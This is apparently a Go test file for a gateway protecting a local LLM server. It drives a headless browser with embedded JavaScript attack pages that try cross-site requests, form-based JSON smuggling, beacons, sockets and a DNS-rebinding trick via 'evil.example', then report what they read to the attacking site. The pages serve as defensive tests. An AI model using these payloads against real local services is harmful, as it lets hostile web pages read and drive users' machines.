package gateway

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"rlca/internal/peer"
)

// attackPage tries all that a page of another site can to use a server of this machine, whose host and port are the first
// two words, and tells its own server what it could read. Each try has its name in the query.
const attackPage = `<!doctype html><meta charset=utf-8><body><script>
const engine = "%[1]s", got = {};
const at = (name, path) => "http://" + engine + (path || "/api/tags") + "?" + name;
const wait = ms => new Promise(r => setTimeout(r, ms));
const chat = JSON.stringify({model: "m", messages: [{role: "user", content: "hi"}]});
async function read(name, options, path) {
  try { const r = await fetch(at(name, path), options); got[name] = r.status + " " + await r.text(); }
  catch (e) { got[name] = "error"; }
}
function element(name, tag, set) {
  return new Promise(done => {
    const e = document.createElement(tag);
    e.onload = () => { got[name] = "loaded"; done(); };
    e.onerror = () => { got[name] = "error"; done(); };
    set(e); document.body.append(e);
  });
}
function inFrame(name, fill) {
  return element(name, "iframe", f => { f.name = name; fill(f); });
}
addEventListener("message", e => { got[e.data.name] = e.data.text; });
const tries = [
  read("get"),
  read("json", {method: "POST", body: chat, headers: {"Content-Type": "application/json"}}, "/v1/chat/completions"),
  read("blind", {method: "POST", body: chat, mode: "no-cors"}, "/v1/chat/completions"),
  read("text", {method: "POST", body: chat, headers: {"Content-Type": "text/plain"}}, "/v1/chat/completions"),
  read("delete", {method: "DELETE", body: chat}, "/api/delete"),
  element("img", "img", e => e.src = at("img")),
  element("script", "script", e => e.src = at("script")),
  element("style", "link", e => { e.rel = "stylesheet"; e.href = at("style"); }),
  inFrame("frame", f => f.src = at("frame")),
  inFrame("null", f => { f.sandbox = "allow-scripts"; f.srcdoc = "<script>fetch('" + at("null", "/v1/chat/completions") +
    "', {method: 'POST', body: '{}'}).then(r => r.text()).then(t => parent.postMessage({name: 'null', text: t}, '*'))</" + "script>"; }),
  (async () => { got.beacon = String(navigator.sendBeacon(at("beacon", "/v1/chat/completions"), chat)); await wait(200); })(),
  (async () => {
    const frame = document.createElement("iframe"); frame.name = "posted"; document.body.append(frame);
    const form = document.createElement("form");
    form.method = "POST"; form.enctype = "text/plain"; form.target = "posted"; form.action = at("form", "/v1/chat/completions");
    const field = document.createElement("input"); field.name = '{"model":"m","x":"'; field.value = '"}'; form.append(field);
    document.body.append(form); form.submit();
    await new Promise(done => frame.onload = done);
  })(),
  new Promise(done => { const s = new EventSource(at("events")); s.onopen = () => { got.events = "open"; s.close(); done(); };
    s.onerror = () => { got.events = "error"; s.close(); done(); }; }),
  new Promise(done => { const s = new WebSocket("ws://" + engine + "/ws?socket"); s.onopen = s.onerror = e => { got.socket = e.type; done(); }; }),
];
(async () => {
  await Promise.race([Promise.allSettled(tries), wait(15000)]);
  await fetch("/report", {method: "POST", body: JSON.stringify(got)});
  location = at("followed"); // a link that is followed
})();
</script>`

// reboundPage is one of a name that leads to this machine from its second request on: for the browser all is one site.
const reboundPage = `<!doctype html><script>
(async () => {
  const got = {};
  for (const [name, path, options] of [["get", "/api/tags?rebound"], ["post", "/v1/chat/completions?rebound", {method: "POST", body: "{}", headers: {"Content-Type": "application/json"}}]]) {
    try { const r = await fetch(path, options); got[name] = r.status + " " + await r.text(); } catch (e) { got[name] = "error"; }
  }
  await fetch("http://%[1]s/report", {method: "POST", mode: "no-cors", body: JSON.stringify(got)});
})();
</script>`

// openEngine answers everybody, whatever page they come from, as vLLM and llama-server do, and notes who came.
type openEngine struct {
	mu   sync.Mutex // guards seen
	seen []string   // the names of the tries
}

const secret = "the answer of the model"

func (e *openEngine) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	e.mu.Lock()
	if r.URL.RawQuery != "" && r.Method != http.MethodOptions {
		e.seen = append(e.seen, r.URL.RawQuery)
	}
	e.mu.Unlock()
	h := w.Header()
	h.Set("Access-Control-Allow-Origin", "*")
	h.Set("Access-Control-Allow-Methods", "*")
	h.Set("Access-Control-Allow-Headers", "*")
	h.Set("Access-Control-Allow-Private-Network", "true")
	switch r.URL.RawQuery {
	case "events":
		h.Set("Content-Type", "text/event-stream")
	case "style":
		h.Set("Content-Type", "text/css")
	}
	io.WriteString(w, secret)
}

func (e *openEngine) tries() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := slices.Clone(e.seen)
	slices.Sort(out)
	return slices.Compact(out)
}

// report is what a page could read by its tries, and how many requests the gateway had refused when it said so.
type report struct {
	got     map[string]string
	refused int64
}

// browse has a real browser open a page, and returns what that page reported. then, if not nil, is waited for.
func browse(t *testing.T, browser, url string, reports <-chan report, then func(report) bool) map[string]string {
	t.Helper()
	cmd := exec.Command(browser, "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
		"--disable-background-networking", "--user-data-dir="+t.TempDir(), "--remote-debugging-port=0",
		"--host-resolver-rules=MAP *.example 127.0.0.1", url)
	var said strings.Builder
	cmd.Stderr, cmd.Env, cmd.WaitDelay = &said, append(os.Environ(), "HOME="+t.TempDir()), 10*time.Second
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	end := sync.OnceFunc(func() {
		for range 500 { // its children write to its folder until they are gone, and a killed one may have begun another
			children := peer.Descendants(cmd.Process.Pid)
			for _, pid := range children {
				if p, err := os.FindProcess(pid); err == nil {
					p.Kill()
				}
			}
			if len(children) == 0 {
				break
			}
			time.Sleep(10 * time.Millisecond)
		}
		cmd.Process.Kill()
		cmd.Wait()
	})
	defer end()
	select {
	case r := <-reports:
		if then != nil {
			waitFor(t, "the link is followed", func() bool { return then(r) })
		}
		return r.got
	case <-time.After(60 * time.Second):
		end()
		t.Fatalf("no report of the page; the browser said %s", said.String())
		return nil
	}
}

// TestChromium lets real pages attack the port. The same pages reach an engine that nothing guards, and read its answers.
func TestChromium(t *testing.T) {
	browser := peer.Need(t, "chromium-headless-shell")
	engine := &openEngine{}
	open := httptest.NewServer(engine)
	defer open.Close()
	bare := open.Listener.Addr().String()
	g := &Gateway{Dial: func(ctx context.Context, _ net.Addr) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, "tcp", bare)
	}}
	guarded := served(t, g)

	reports := make(chan report, 1)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/report":
			var got map[string]string
			if json.NewDecoder(r.Body).Decode(&got) == nil {
				reports <- report{got, g.Stats().Refused}
			}
		case r.URL.Path == "/attack":
			fmt.Fprintf(w, attackPage, r.URL.RawQuery)
		default:
			http.NotFound(w, r)
		}
	}))
	defer site.Close()
	_, sitePort, _ := net.SplitHostPort(site.Listener.Addr().String())
	attack := func(host, addr string) (reached []string, got map[string]string) {
		_, port, _ := net.SplitHostPort(addr)
		engine.mu.Lock()
		engine.seen = nil
		engine.mu.Unlock()
		followed := func(r report) bool {
			return slices.Contains(engine.tries(), "followed") || addr == guarded && g.Stats().Refused > r.refused
		}
		got = browse(t, browser, "http://site.example:"+sitePort+"/attack?"+host+":"+port, reports, followed)
		t.Logf("at %s:%s %q reach the engine, the page reads %v", host, port, engine.tries(), got)
		return engine.tries(), got
	}

	reached, got := attack("127.0.0.1", bare)
	all := []string{"beacon", "blind", "delete", "events", "followed", "form", "frame", "get", "img", "json", "null", "script", "socket", "style", "text"}
	if !slices.Equal(reached, all) {
		t.Errorf("without a guard %q reach the engine, want %q (%v)", reached, all, got)
	}
	for _, name := range []string{"get", "json", "text", "null"} {
		if !strings.Contains(got[name], secret) {
			t.Errorf("without a guard %s reads %q", name, got[name])
		}
	}
	for _, host := range []string{"127.0.0.1", "localhost"} {
		reached, got := attack(host, guarded)
		if len(reached) > 0 || len(got) < 10 {
			t.Errorf("at %s %q reach the engine: %v", host, reached, got)
		}
		for name, text := range got {
			if text != "error" && name != "beacon" && name != "frame" && name != "null" && !(name == "blind" && text == "0 ") {
				t.Errorf("at %s %s gets %q", host, name, text)
			}
		}
	}

	for _, addr := range []string{bare, guarded} {
		engine.mu.Lock()
		engine.seen = nil
		engine.mu.Unlock()
		name := rebinds(t, addr, site.Listener.Addr().String())
		got := browse(t, browser, "http://"+name+"/", reports, nil)
		if addr == bare {
			if !slices.Equal(engine.tries(), []string{"rebound"}) || got["get"] != "200 "+secret || got["post"] != "200 "+secret {
				t.Errorf("a rebinding page without a guard: %q, %v", engine.tries(), got)
			}
			continue
		}
		for _, try := range []string{"get", "post"} {
			if !strings.HasPrefix(got[try], "403 ") || !strings.Contains(got[try], "evil.example") {
				t.Errorf("a rebinding page: %s gets %q", try, got[try])
			}
		}
		if seen := engine.tries(); len(seen) > 0 {
			t.Errorf("a rebinding page reaches the engine: %q", seen)
		}
	}

	resp, err := http.Post("http://"+guarded+"/v1/chat/completions?harness", "application/json", strings.NewReader("{}"))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if body, _ := io.ReadAll(resp.Body); resp.StatusCode != 200 || string(body) != secret {
		t.Errorf("a harness gets %d %q", resp.StatusCode, body)
	}
}

// rebinds is a name and a port that lead to an attacker's server first, and after its page is loaded to addr: what a name does
// whose second answer is 127.0.0.1.
func rebinds(t *testing.T, addr, site string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	t.Cleanup(func() { ln.Close(); wg.Wait() })
	page := fmt.Sprintf(reboundPage, site)
	wg.Go(func() {
		for loaded := false; ; {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.SetDeadline(time.Now().Add(30 * time.Second))
			if !loaded {
				buf := make([]byte, 1)
				if _, err := c.Read(buf); err == nil { // a connection that the browser only keeps ready is none
					loaded = true
					fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(page), page)
					c.(*net.TCPConn).CloseWrite()
					io.Copy(io.Discard, c)
				}
				c.Close()
				continue
			}
			to, err := net.Dial("tcp", addr)
			if err != nil {
				c.Close()
				continue
			}
			wg.Go(func() {
				defer to.Close()
				io.Copy(to, c)
			})
			wg.Go(func() {
				defer c.Close()
				io.Copy(c, to)
			})
		}
	})
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	return "evil.example:" + port
}
